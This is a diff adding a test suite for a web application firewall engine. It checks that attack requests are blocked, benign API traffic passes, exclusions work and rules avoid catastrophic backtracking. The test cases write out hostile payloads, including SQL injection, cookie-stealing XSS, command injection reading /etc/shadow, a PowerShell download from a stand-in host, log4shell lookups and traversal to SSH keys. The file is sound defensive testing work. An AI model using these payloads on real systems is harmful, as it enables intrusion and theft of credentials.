@@ -1,0 +1,279 @@
+import { describe, expect, test } from 'vitest';
+import { compileEngine, viewOf } from './engine.ts';
+import { RULES } from './rules/index.ts';
+import type { RequestParts } from './types.ts';
+
+const p1 = compileEngine({ paranoia: 1 });
+const THRESHOLD = 5;
+
+function get(url: string, headers: Record<string, string> = {}): RequestParts {
+  return { method: 'GET', url, headers: { host: 'api.example', 'user-agent': 'test', ...headers } };
+}
+function post(body: string, contentType?: string, url = '/api/items'): RequestParts {
+  const headers: Record<string, string> = { host: 'api.example', 'user-agent': 'test' };
+  if (contentType) headers['content-type'] = contentType;
+  return { method: 'POST', url, headers, body: Buffer.from(body) };
+}
+const q = (v: string): string => `/search?q=${encodeURIComponent(v)}`;
+const json = (v: unknown): RequestParts => post(JSON.stringify(v), 'application/json');
+
+function families(parts: RequestParts): string[] {
+  return [...new Set(p1.inspect(parts).matches.map((m) => m.family))];
+}
+const blocked = (parts: RequestParts): boolean => p1.inspect(parts).score >= THRESHOLD;
+
+// Literal attack payloads contain `${…}` on purpose.
+const IFS = '$' + '{IFS}';
+const JNDI = '$' + '{jndi:ldap://x.example/a}';
+const SPLIT_JNDI = '$' + '{$' + '{lower:j}ndi:rmi://x.example/a}';
+
+describe('attacks are blocked at paranoia 1, whatever the family and the carrier', () => {
+  const attacks: Array<[string, RequestParts, string]> = [
+    ['sqli: tautology after a quote breakout', get(q("alice' OR '1'='1")), 'sqli'],
+    ['sqli: UNION SELECT with comment', get(q('1) union /**/ all select password from users--')), 'sqli'],
+    ['sqli: stacked query', json({ id: '5; DROP TABLE users' }), 'sqli'],
+    ['sqli: time-based blind in a cookie', get('/', { cookie: 'sid=1 AND sleep(5)' }), 'sqli'],
+    ['sqli: numeric tautology', get(q('-1 or 2=2')), 'sqli'],
+    ['sqli: MySQL executable comment', get(q('1 /*!50000union*/ /*!50000select*/ 1')), 'sqli'],
+    ['sqli: NoSQL operator as a JSON key', json({ user: 'admin', password: { $ne: null } }), 'sqli'],
+    ['xss: script tag', get(q('<script>fetch("//x.example/"+document.cookie)</script>')), 'xss'],
+    ['xss: event handler on svg', get(q('<svg/onload=alert(1)>')), 'xss'],
+    ['xss: attribute breakout', get(q('" autofocus onfocus="x()')), 'xss'],
+    ['xss: javascript: split by an entity', json({ link: 'jav&#x09;ascript:alert(1)' }), 'xss'],
+    ['xss: full-width angle brackets', get(q('＜script＞x＜/script＞')), 'xss'],
+    [
+      'xss: in the Referer header',
+      get('/', { referer: 'https://a.example/?"><img src=x onerror=alert(1)>' }),
+      'xss',
+    ],
+    ['rce: command after a separator', get(q('8.8.8.8; cat /etc/passwd')), 'rce'],
+    ['rce: command substitution', json({ host: 'x$(id)' }), 'rce'],
+    ['rce: quote-split command name', get(q("127.0.0.1|w'h'o'a'm'i")), 'rce'],
+    ['rce: $IFS instead of spaces', get(q(`;cat${IFS}/etc/shadow`)), 'rce'],
+    ['rce: shellshock in a header', get('/', { 'x-debug': '() { :; }; /bin/bash -c id' }), 'rce'],
+    ['rce: Windows FOR loop', get(q("for /f %i in ('whoami') do echo %i")), 'rce'],
+    ['rce: PowerShell download', json({ cmd: 'powershell Invoke-WebRequest http://x.example/a.ps1' }), 'rce'],
+    ['lfi: traversal', get('/files?name=../../../../etc/passwd'), 'lfi'],
+    ['lfi: traversal with backslashes', get(q('..\\..\\windows\\win.ini')), 'lfi'],
+    ['lfi: overlong UTF-8 slash', get('/files?name=..%c0%af..%c0%afetc%c0%afpasswd'), 'lfi'],
+    ['lfi: secrets file', get(q('/home/app/.ssh/id_rsa')), 'lfi'],
+    ['rfi: stream wrapper', get('/page?tpl=php://filter/convert.base64-encode/resource=index'), 'rfi'],
+    ['php: superglobal and eval', json({ code: '<?php eval($_POST["x"]); ?>' }), 'php'],
+    ['java: log4shell lookup in User-Agent', get('/', { 'user-agent': JNDI }), 'java'],
+    ['java: split log4shell lookup', get(q(SPLIT_JNDI)), 'java'],
+    ['protocol: header injection', get('/r?next=%0d%0aSet-Cookie:%20sid=evil'), 'protocol'],
+  ];
+  test.each(attacks)('%s', (_name, parts, family) => {
+    expect(blocked(parts)).toBe(true);
+    expect(families(parts)).toContain(family);
+  });
+});
+
+describe('bodies are inspected whatever their Content-Type says', () => {
+  test('a form body without Content-Type', () => {
+    expect(blocked(post("name=x' union select password from users--"))).toBe(true);
+  });
+  test('a raw text body without Content-Type', () => {
+    expect(blocked(post('<script>alert(1)</script>'))).toBe(true);
+  });
+  test('JSON labelled text/plain, the payload nested three levels deep', () => {
+    const body = JSON.stringify({ a: { b: [{ c: "1' OR '1'='1" }] } });
+    const r = p1.inspect(post(body, 'text/plain'));
+    expect(r.score).toBeGreaterThanOrEqual(THRESHOLD);
+    expect(r.matches.map((m) => m.target)).toContain('body:a.b.0.c');
+  });
+  test('a multipart field and a traversing file name', () => {
+    const body =
+      '--XyZ\r\nContent-Disposition: form-data; name="comment"\r\n\r\n<iframe src=javascript:alert(1)>\r\n' +
+      '--XyZ\r\nContent-Disposition: form-data; name="f"; filename="../../app/config.php"\r\n\r\nbinary\r\n--XyZ--\r\n';
+    const r = p1.inspect(post(body, 'multipart/form-data; boundary=XyZ'));
+    expect(r.matches.map((m) => m.family)).toEqual(expect.arrayContaining(['xss', 'lfi']));
+  });
+  test('XML element text and attributes, entity-encoded', () => {
+    const body =
+      '<?xml version="1.0"?><order note="&lt;script&gt;x()&lt;/script&gt;"><id>1 UNION SELECT 1,2</id></order>';
+    const r = p1.inspect(post(body, 'application/xml'));
+    expect(r.matches.map((m) => m.family)).toEqual(expect.arrayContaining(['xss', 'sqli']));
+  });
+  test('XML external entity declaration', () => {
+    const body = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>';
+    expect(blocked(post(body, 'application/xml'))).toBe(true);
+  });
+  test('double and triple percent-encoding', () => {
+    expect(blocked(get('/s?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E'))).toBe(true);
+    expect(blocked(get('/f?p=%25252e%25252e%25252fetc%25252fpasswd'))).toBe(true);
+  });
+  test('a form-encoded body declared as JSON is still read as a form', () => {
+    expect(blocked(post('q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'application/json'))).toBe(true);
+  });
+});
+
+describe('benign API traffic passes at paranoia 1', () => {
+  const benign: Array<[string, RequestParts]> = [
+    [
+      'prose with apostrophes',
+      json({
+        review: "I can't believe it's not butter! O'Reilly's book and Jones' notes are great, or so I'd say.",
+      }),
+    ],
+    [
+      'prose with semicolons and ampersands',
+      json({ text: 'Fish & chips; time will tell. Select one from the menu, then more.' }),
+    ],
+    [
+      'a JavaScript snippet in a JSON field',
+      json({ snippet: 'function add(a, b) {\n  return a + b;\n}\nconst total = items.reduce(add, 0);' }),
+    ],
+    [
+      'a Python snippet',
+      json({ code: 'def greet(name):\n    return f"Hello, {name}!"\n\nprint(greet("world"))' }),
+    ],
+    ['a SQL-looking sentence', get(q('how to select the best laptop from the 2024 range'))],
+    ['email addresses', json({ to: ['first.last+tag@example.com', "o'neil@example.org"] })],
+    [
+      'URLs',
+      json({
+        callback: 'https://hooks.example.com/a/b?x=1&y=2#frag',
+        avatar: 'https://cdn.example.com/u/42.png',
+      }),
+    ],
+    ['a search with brackets and math', get(q('price (incl. tax) = 12.50 + [shipping]'))],
+    ['ordinary query parameters', get('/pets?limit=20&offset=40&sort=-created_at&type=cat&status=available')],
+    [
+      'a nested order',
+      json({
+        order: {
+          id: 'ord_123',
+          items: [{ sku: 'A-1', qty: 2, note: 'Gift wrap, please; thanks!' }],
+          total: 19.99,
+        },
+      }),
+    ],
+    [
+      'markdown with code',
+      json({ body: 'Run `npm install` first, then **build**. See [docs](https://docs.example.com).' }),
+    ],
+    ['a base64 value', json({ data: 'SGVsbG8sIFdvcmxkIQ==', encoding: 'base64' })],
+    [
+      'a browser User-Agent',
+      get('/', {
+        'user-agent':
+          'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
+      }),
+    ],
+    ['a cookie header', get('/', { cookie: 'session=abc123; theme=dark; consent=yes' })],
+    ['a path with dots', get('/files/report.v2.final.pdf')],
+    ['a phone number and a date range', get('/calls?from=2024-01-01&to=2024-01-31&number=%2B1-555-0100')],
+  ];
+  test.each(benign)('%s', (_name, parts) => {
+    const r = p1.inspect(parts);
+    expect(r.matches).toEqual([]);
+  });
+});
+
+describe('anomaly scoring and paranoia', () => {
+  test('a weak signal alone does not block, it only adds to the score', () => {
+    const r = p1.inspect(get(q('see %SYSTEMROOT% for the file')));
+    expect(r.matches.map((m) => m.id)).toEqual(['rce-windows-env']);
+    expect(r.score).toBeLessThan(THRESHOLD);
+  });
+  test('higher paranoia runs stricter rules', () => {
+    const parts = get(q('<b>bold</b>'));
+    expect(p1.inspect(parts).score).toBe(0);
+    expect(compileEngine({ paranoia: 2 }).inspect(parts).score).toBeGreaterThan(0);
+  });
+  test('matches name the target, never the value', () => {
+    const r = p1.inspect(get(q("x' or 1=1--")));
+    expect(r.matches[0]).toMatchObject({ family: 'sqli', target: 'query:q' });
+    expect(JSON.stringify(r)).not.toContain('1=1');
+  });
+});
+
+describe('exclusions', () => {
+  const attack = json({ post: { content: "<script>alert('x')</script>" }, title: 'hi' });
+  test('a body field excluded from a family is not inspected by it, its parent path covers it', () => {
+    const e = compileEngine({ exclusions: [{ target: 'body:post', families: ['xss'] }] });
+    expect(e.inspect(attack).matches.filter((m) => m.family === 'xss')).toEqual([]);
+  });
+  test('excluding one rule leaves the other rules on that target', () => {
+    const e = compileEngine({ exclusions: [{ target: 'body:post.content', rules: ['xss-tag'] }] });
+    const ids = e.inspect(attack).matches.map((m) => m.id);
+    expect(ids).not.toContain('xss-tag');
+    expect(ids).toContain('xss-js-sink');
+  });
+  test('a header excluded from everything (name case-insensitive)', () => {
+    const e = compileEngine({ exclusions: [{ target: 'header:X-Template' }] });
+    expect(e.inspect(get('/', { 'x-template': '<script>x()</script>' })).score).toBe(0);
+    expect(e.inspect(get('/', { 'x-other': '<script>x()</script>' })).score).toBeGreaterThanOrEqual(
+      THRESHOLD,
+    );
+  });
+  test('a query parameter exclusion does not cover other parameters', () => {
+    const e = compileEngine({ exclusions: [{ target: 'query:sql', families: ['sqli'] }] });
+    expect(e.inspect(get('/r?sql=select+*+from+t+where+a%3D1')).score).toBe(0);
+    expect(e.inspect(get('/r?other=select+*+from+t+where+a%3D1')).score).toBeGreaterThan(0);
+  });
+});
+
+describe('no catastrophic backtracking: the worst case of each rule stays bounded', () => {
+  // Shapes that make naive patterns backtrack: long runs of the characters the rules anchor on.
+  const payloads = [
+    'a'.repeat(20000),
+    '<a '.repeat(7000),
+    '<svg '.repeat(4000),
+    `<svg ${'x'.repeat(20000)}`,
+    '/*'.repeat(10000),
+    "'".repeat(20000),
+    "' or ".repeat(4000),
+    '${'.repeat(10000),
+    '$('.repeat(10000),
+    '../'.repeat(7000),
+    '..\\'.repeat(7000),
+    'for '.repeat(5000),
+    `for ${'"x" '.repeat(5000)}`,
+    'if '.repeat(5000),
+    `if ${'a=='.repeat(5000)}`,
+    '%'.repeat(20000),
+    '%2'.repeat(10000),
+    '&#'.repeat(10000),
+    '`'.repeat(20000),
+    '<!--#'.repeat(4000),
+    ' on'.repeat(7000),
+    ' onx'.repeat(5000),
+    'select '.repeat(3000),
+    'union '.repeat(3000),
+    ';'.repeat(20000),
+    '; '.repeat(10000),
+    '\\'.repeat(20000),
+    `${'a='.repeat(10000)}b`,
+    `alias ${'+a '.repeat(6000)}`,
+    '/etc/'.repeat(4000),
+    '/['.repeat(10000),
+    '{a,'.repeat(7000),
+    '\\x3'.repeat(7000),
+    'jndi:'.repeat(4000),
+    '(!['.repeat(7000),
+    `${'1.'.repeat(10000)}e`,
+  ];
+  const kinds = ['query', 'body', 'header', 'path', 'body-raw', 'filename'] as const;
+  // Normalised once (the transforms are measured by the engine tests); each rule is timed alone.
+  const views = payloads.flatMap((value) =>
+    kinds.map((kind) => {
+      const view = viewOf({ kind, key: `${kind}:x`, value });
+      void view.sql;
+      void view.shell;
+      void view.path;
+      return view;
+    }),
+  );
+  test.each(RULES.map((r) => [r.id, r] as const))('%s', (_id, rule) => {
+    let worst = 0;
+    for (const view of views) {
+      const t0 = performance.now();
+      rule.test(view);
+      worst = Math.max(worst, performance.now() - t0);
+    }
+    // ~20 KB of hostile input: a linear rule needs a few ms at most; 100 ms catches any quadratic blow-up (seconds).
+    expect(worst).toBeLessThan(100);
+  });
+});
